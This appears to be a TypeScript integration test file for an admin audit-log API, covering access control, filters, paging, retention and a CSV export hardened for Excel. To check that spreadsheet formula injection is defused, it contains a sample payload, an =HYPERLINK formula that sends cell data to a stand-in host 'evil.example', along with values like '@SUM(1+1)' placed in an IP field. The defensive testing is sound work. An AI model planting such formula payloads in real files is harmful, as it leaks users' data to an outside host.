import { AUDIT_CSV_HEADERS, type AuditEntry } from '@huafang/contracts';
import type { Insertable } from 'kysely';
import { expect, it } from 'vitest';
import { loadConfig } from '../../src/config.js';
import type { AuditLogTable } from '../../src/platform/db/schema.js';
import { newId } from '../../src/platform/ids.js';
import { waitForEnd } from '../generate/generation-helpers.js';
import { describeServer } from '../helpers/suite.js';
import { PASSWORD, type TestUser } from '../helpers/test-app.js';
import { useTestApp } from '../helpers/use-test-app.js';
import { auditPage, flushAudit, masked, newestFirst } from './audit-helpers.js';

const DAY_MS = 86_400_000;
const SMALL = { width: 256, height: 256, steps: 4 };
/** A prompt a spreadsheet would run as a formula if a cell began with it. */
const FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

/** The rows of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  expect(cell, 'the last line ends with CRLF').toBe('');
  return rows;
}

describeServer('audit: 审计日志 for admins — filters, pages, CSV export and retention', () => {
  // Behind a trusted proxy (as deployed): the client address comes from X-Forwarded-For.
  const ctx = useTestApp({ config: { trustProxy: true }, admin: true, users: ['user', 'other'] });

  const page = (query: Parameters<typeof auditPage>[2]) => auditPage(ctx.app, ctx.admin, query);
  const login = async (ip: string, who: TestUser = ctx.user, password = PASSWORD) => {
    const res = await ctx.app.app.inject({
      method: 'POST',
      url: '/api/auth/account',
      headers: { 'x-forwarded-for': ip },
      payload: { account: who.account, password },
    });
    return res.json();
  };
  /** Entries written as the recorder writes them, at chosen times (the API records only "now"). */
  const insert = (rows: Partial<Insertable<AuditLogTable>>[]) =>
    ctx.app.db
      .insertInto('audit_log')
      .values(
        rows.map((row) => ({
          id: newId(),
          at: new Date().toISOString(),
          actor_user_id: null,
          actor_mobile_masked: null,
          actor_role: 'system',
          api_key_id: null,
          ip: null,
          action: 'auth.login',
          target_type: null,
          target_id: null,
          detail: '{}',
          ...row,
        })),
      )
      .execute();
  const exportCsv = async (query: string, token = ctx.admin) => {
    await flushAudit(ctx.app);
    return ctx.app.app.inject({
      method: 'GET',
      url: `/api/admin/audit-log/export?${query}`,
      headers: { authorization: `Bearer ${token}` },
    });
  };

  it('is for admins only, and not for keys of admins', async () => {
    for (const url of ['/api/admin/audit-log', '/api/admin/audit-log/export']) {
      const asUser = await ctx.app.call('GET', url, { token: ctx.user.token });
      expect(asUser).toMatchObject({ status: 403, body: { code: -1, msg: '没有权限执行此操作', data: null } });
      const anonymous = await ctx.app.call('GET', url);
      expect(anonymous).toMatchObject({ status: 401, body: { code: 401 } });
    }
    const key = await ctx.app.call('POST', '/api/user/apiKeys', {
      token: ctx.admin,
      body: { name: '管理员脚本', scopes: ['generate', 'works:read'] },
    });
    const byKey = await ctx.app.call('GET', '/api/admin/audit-log', { token: key.body.data.key });
    expect(byKey).toMatchObject({ status: 403, body: { code: -1, msg: '该 API 密钥无权访问此接口' } });
  });

  it('takes the client address from X-Forwarded-For, cut to what the column holds', async () => {
    expect((await login('203.0.113.5, 10.0.0.2')).code).toBe(0);
    const spoofed = `198.51.100.1${'9'.repeat(80)}`;
    expect((await login(spoofed)).code).toBe(0);
    const { list } = await page({ userId: ctx.user.userId, action: 'auth.login', pageSize: 100 });
    expect(list.map((entry) => entry.ip).sort()).toEqual(['203.0.113.5', spoofed.slice(0, 64)].sort());
    expect(ctx.app.services.audit.recorder.stats().dropped).toBe(0);
  });

  it('filters by user, mobile, action, category, address and API key, together', async () => {
    expect((await login('10.20.0.1')).code).toBe(0);
    expect((await login('10.20.0.2', ctx.other)).code).toBe(0);
    expect((await login('10.20.0.3', ctx.other, 'wrong-password')).code).toBe(-1);
    await insert([
      { action: 'generation.submit', actor_user_id: ctx.other.userId, actor_role: 'user', api_key_id: 'key-audit-1' },
      {
        action: 'generation.succeeded',
        actor_user_id: ctx.other.userId,
        actor_role: 'user',
        api_key_id: 'key-audit-1',
      },
      { action: 'generation.submit', actor_user_id: ctx.other.userId, actor_role: 'user', api_key_id: 'key-audit-2' },
    ]);

    const ofOther = await page({ userId: ctx.other.userId, pageSize: 100 });
    // Its sign-up, a login, a failed login and three generation entries.
    expect(ofOther.list.map((entry) => entry.action).sort()).toEqual([
      'auth.login',
      'auth.login_failed',
      'auth.register',
      'generation.submit',
      'generation.submit',
      'generation.succeeded',
    ]);
    newestFirst(ofOther.list);
    for (const entry of ofOther.list) expect(entry.userId).toBe(ctx.other.userId);

    // A whole mobile number finds its user's entries; the masked one is all that is shown.
    const byMobile = await page({ mobile: ctx.other.mobile, pageSize: 100 });
    expect(byMobile.list.map((entry) => entry.id).sort()).toEqual(ofOther.list.map((entry) => entry.id).sort());
    expect(byMobile.list.find((entry) => entry.action === 'auth.login')?.mobile).toBe(masked(ctx.other.mobile));
    expect((await page({ mobile: '13900000000' })).total).toBe(0);
    // Mobile and user together must both match.
    expect((await page({ mobile: ctx.other.mobile, userId: ctx.user.userId })).total).toBe(0);
    expect((await page({ mobile: ctx.other.mobile, userId: ctx.other.userId })).total).toBe(ofOther.total);

    const logins = await page({ userId: ctx.other.userId, action: 'auth.login' });
    expect(logins.list.map((entry) => entry.ip)).toEqual(['10.20.0.2']);
    const auth = await page({ userId: ctx.other.userId, category: 'auth', pageSize: 100 });
    expect(auth.list.map((entry) => entry.action).sort()).toEqual(['auth.login', 'auth.login_failed', 'auth.register']);
    const failed = await page({ ip: '10.20.0.3' });
    expect(failed.list).toMatchObject([{ action: 'auth.login_failed', userId: ctx.other.userId }]);
    expect((await page({ ip: '10.20.0.3', category: 'generation' })).total).toBe(0);

    const byKey = await page({ apiKeyId: 'key-audit-1', pageSize: 100 });
    expect(byKey.list.map((entry) => entry.action).sort()).toEqual(['generation.submit', 'generation.succeeded']);
    expect((await page({ apiKeyId: 'key-audit-1', action: 'generation.submit' })).total).toBe(1);
    expect((await page({ apiKeyId: 'key-audit-1', userId: ctx.user.userId })).total).toBe(0);
  });

  it("filters by days in the admin's time zone", async () => {
    const day = new Date(Date.now() - 10 * DAY_MS).toISOString().slice(0, 10);
    const next = new Date(Date.parse(day) + DAY_MS).toISOString().slice(0, 10);
    const ip = '10.30.0.1';
    // 23:59:59 and 00:00:00 of the next day in China (UTC+8).
    await insert([
      { at: `${day}T15:59:59.999Z`, ip, detail: '{"n":"late"}' },
      { at: `${day}T16:00:00.000Z`, ip, detail: '{"n":"next"}' },
    ]);
    const names = async (query: object) =>
      (await page({ ip, pageSize: 100, ...query })).list.map((entry) => entry.detail.n);
    expect(await names({ dateFrom: day, dateTo: day, tzOffset: -480 })).toEqual(['late']);
    expect(await names({ dateFrom: next, dateTo: next, tzOffset: -480 })).toEqual(['next']);
    expect(await names({ dateFrom: day, dateTo: day })).toEqual(['next', 'late']);
    expect(await names({ dateFrom: next })).toEqual([]);
    expect(await names({ dateTo: day, tzOffset: -480 })).toEqual(['late']);

    // What the API recorded just now is in today's page, not in yesterday's.
    const today = new Date().toISOString().slice(0, 10);
    const yesterday = new Date(Date.now() - DAY_MS).toISOString().slice(0, 10);
    expect((await page({ userId: ctx.user.userId, dateFrom: today })).total).toBeGreaterThan(0);
    expect((await page({ userId: ctx.user.userId, dateTo: yesterday })).total).toBe(0);
  });

  it('pages newest first', async () => {
    const ip = '10.40.0.1';
    for (let i = 0; i < 12; i++) expect((await login(ip)).code).toBe(0);
    const pages = [];
    for (let current = 1; current <= 4; current++) pages.push(await page({ ip, current, pageSize: 5 }));
    expect(pages.map((p) => [p.current, p.pageSize, p.total, p.list.length])).toEqual([
      [1, 5, 12, 5],
      [2, 5, 12, 5],
      [3, 5, 12, 2],
      [4, 5, 12, 0],
    ]);
    const all = pages.flatMap((p) => p.list);
    expect(new Set(all.map((entry) => entry.id)).size).toBe(12);
    newestFirst(all);
    // 20 a page unless asked.
    expect((await page({ category: 'auth' })).pageSize).toBe(20);
  });

  it('refuses bad filters with a Chinese message', async () => {
    const refused = async (query: string, msg: string) => {
      const res = await ctx.app.call('GET', `/api/admin/audit-log?${query}`, { token: ctx.admin });
      expect(res.status, query).toBe(400);
      expect(res.body, query).toMatchObject({ code: -1, msg });
    };
    await refused('pageSize=101', '每页条数不能超过 100');
    await refused('current=0', '页码必须大于 0');
    await refused('action=auth.logout', '操作类型不正确');
    await refused('category=billing', '操作类别不正确');
    await refused('mobile=12345', '请输入 11 位手机号');
    await refused('dateFrom=2026%2F11%2F01', '日期格式应为 YYYY-MM-DD');
    await refused('tzOffset=900', '时区偏移不正确');
    await refused(`ip=${'1'.repeat(65)}`, 'IP 地址不能超过 64 个字符');
  });

  it('exports CSV for Excel: BOM, Chinese headers, local times, prompts that cannot run as formulas', async () => {
    // A generation whose prompt begins with =, and a login whose forged address begins with @.
    const submit = await ctx.app.call('POST', '/api/generate/task', {
      token: ctx.other.token,
      body: {
        templateId: null,
        promptGroup: [{ id: 'p1', groupName: '公式', promptText: FORMULA_PROMPT, custom: '1' }],
        parameters: SMALL,
      },
    });
    expect(submit.body.code, submit.body.msg).toBe(0);
    expect((await waitForEnd(ctx.app, ctx.other.token, submit.body.data.generateId)).final.status).toBe('succeeded');
    expect((await login('@SUM(1+1)', ctx.other)).code).toBe(0);

    const res = await exportCsv(`userId=${ctx.other.userId}&dateFrom=2026-01-01&tzOffset=-480`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = res.rawPayload.toString('utf8');
    expect(
      text.startsWith('\uFEFF时间,操作,操作代码,用户编号,手机号,角色,API 密钥,IP 地址,对象类型,对象编号,详情\r\n'),
    ).toBe(true);
    const [headers, ...rows] = parseCsv(text.slice(1));
    expect(headers).toEqual([...AUDIT_CSV_HEADERS]);

    // The same entries as the page shows, in the same order.
    const shown = await page({ userId: ctx.other.userId, dateFrom: '2026-01-01', tzOffset: -480, pageSize: 100 });
    expect(rows.map((row) => row[2])).toEqual(shown.list.map((entry) => entry.action));
    const byCode = (action: string) => rows.find((row) => row[2] === action)!;
    const submitted = byCode('generation.submit');
    const entry = shown.list.find((e) => e.action === 'generation.submit') as AuditEntry;
    const local = new Date(Date.parse(entry.at) + 8 * 3_600_000).toISOString().slice(0, 19);
    expect(submitted.slice(0, 10)).toEqual([
      `${local}+08:00`,
      '提交生成',
      'generation.submit',
      ctx.other.userId,
      masked(ctx.other.mobile),
      '用户',
      '',
      '127.0.0.1',
      'generation',
      submit.body.data.generateId,
    ]);
    // The model reads English; the trail keeps the user's words as they were typed too.
    expect(JSON.parse(submitted[10]!)).toMatchObject({
      prompt: expect.stringContaining('=HYPERLINK'),
      sourcePrompt: expect.stringContaining(FORMULA_PROMPT),
    });
    expect(byCode('auth.login')[7]).toBe("'@SUM(1+1)");
    expect(byCode('generation.succeeded')[1]).toBe('生成成功');
    // No cell a spreadsheet would take for a formula.
    for (const row of rows) {
      expect(row).toHaveLength(AUDIT_CSV_HEADERS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    // The export itself is in the trail: personal data left the service.
    const exported = await page({ action: 'admin.audit_export' });
    expect(exported.list[0]).toMatchObject({
      role: 'admin',
      detail: { filter: { userId: ctx.other.userId, dateFrom: '2026-01-01', tzOffset: -480 }, rows: rows.length },
    });

    // Nothing matching: the headers only.
    const empty = await exportCsv('ip=192.0.2.255');
    expect(empty.rawPayload.toString('utf8')).toBe(`\uFEFF${AUDIT_CSV_HEADERS.join(',')}\r\n`);
    expect((await exportCsv('action=nope')).json()).toMatchObject({ code: -1, msg: '操作类型不正确' });
  });

  it('quotes cells with commas, quotes and line breaks, and defuses every leading formula character', async () => {
    const ip = '10.50.0.1';
    await insert([
      { ip, target_type: 'work', target_id: '=1+1', detail: JSON.stringify({ note: 'a, "b"\r\nc' }) },
      { ip, target_type: 'work', target_id: '+1', at: new Date(Date.now() - 1000).toISOString() },
      { ip, target_type: 'work', target_id: '-1', at: new Date(Date.now() - 2000).toISOString() },
      { ip, target_type: 'work', target_id: '@A1', at: new Date(Date.now() - 3000).toISOString() },
    ]);
    const rows = parseCsv((await exportCsv(`ip=${ip}`)).rawPayload.toString('utf8').slice(1)).slice(1);
    expect(rows.map((row) => row[9])).toEqual(["'=1+1", "'+1", "'-1", "'@A1"]);
    expect(JSON.parse(rows[0]![10]!)).toEqual({ note: 'a, "b"\r\nc' });
    expect(rows[0]![5]).toBe('系统');
  });

  it('deletes entries past the retention (180 days unless configured)', async () => {
    expect(ctx.app.config.audit.retentionDays).toBe(180);
    expect(loadConfig({ AUDIT_RETENTION_DAYS: '30' }).audit.retentionDays).toBe(30);
    expect(() => loadConfig({ AUDIT_RETENTION_DAYS: '0' })).toThrow(/AUDIT_RETENTION_DAYS/);

    const ip = '10.60.0.1';
    const now = Date.now();
    await insert([
      { ip, at: new Date(now - 181 * DAY_MS).toISOString(), detail: '{"age":181}' },
      { ip, at: new Date(now - 179 * DAY_MS).toISOString(), detail: '{"age":179}' },
      { ip, at: new Date(now - DAY_MS).toISOString(), detail: '{"age":1}' },
    ]);
    const ages = async () => (await page({ ip, pageSize: 100 })).list.map((entry) => entry.detail.age);
    expect(await ages()).toEqual([1, 179, 181]);
    const before = (await page({})).total;

    expect(await ctx.app.services.audit.prune(now)).toBe(1);
    expect(await ages()).toEqual([1, 179]);
    // Nothing else was that old.
    expect((await page({})).total).toBe(before - 1);
    // Two days on, the 179-day-old entry is past it too.
    expect(await ctx.app.services.audit.prune(now + 2 * DAY_MS)).toBe(1);
    expect(await ages()).toEqual([1]);
    expect(await ctx.app.services.audit.prune(now + 2 * DAY_MS)).toBe(0);
  });
});
